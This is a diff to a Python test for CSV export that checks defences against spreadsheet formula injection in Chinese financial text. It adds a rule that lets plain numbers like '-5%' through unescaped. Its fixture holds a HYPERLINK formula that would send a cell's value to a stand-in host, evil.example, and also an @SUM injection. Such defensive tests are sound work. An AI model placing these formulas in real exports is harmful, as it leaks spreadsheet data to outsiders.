@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import datetime as dt
 import os
+import re
 from pathlib import Path
 import stat
 import subprocess
@@ -350,7 +351,7 @@ def test_a_table_missing_a_required_value_is_bad_input_for_diff(tmp_path):
 # --- CSV formula injection ----------------------------------------------------------
 
 HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"点击")，该公司第三季度营收同比下降12%，'
-           '净利润为-8,000万元。\n@SUM(1+1) 公司估值约300亿元。\n')
+           '净利润为-8,000万元，毛利率变动-5%。\n@SUM(1+1) 公司估值约300亿元。\n')
 
 
 def test_csv_text_cells_never_start_a_formula_and_read_back_exact(tmp_path):
@@ -368,10 +369,12 @@ def test_csv_text_cells_never_start_a_formula_and_read_back_exact(tmp_path):
     with open(csv_out, encoding="utf-8") as fh:
         rows = list(csv.DictReader(fh))
     numeric = {"value", "low", "high", "value_cny", "fx_rate", "start", "end", "line"}
+    plain_number = re.compile(r"[-+]?\d+(?:\.\d+)?%?")
     for row in rows:
         for col, cell in row.items():
-            if col not in numeric:
+            if col not in numeric and not plain_number.fullmatch(cell):
                 assert cell[:1] not in set("=+-@\t\r"), (col, cell)
+    assert any(r["text"] == "-5%" for r in rows)  # a plain number runs no formula: left as it is
     loss = next(r for r in rows if "8,000万元" in r["text"])
     assert loss["text"] == "'-8,000万元" and float(loss["value"]) == -8e7
     assert all(r["source"].startswith("'=") for r in rows)
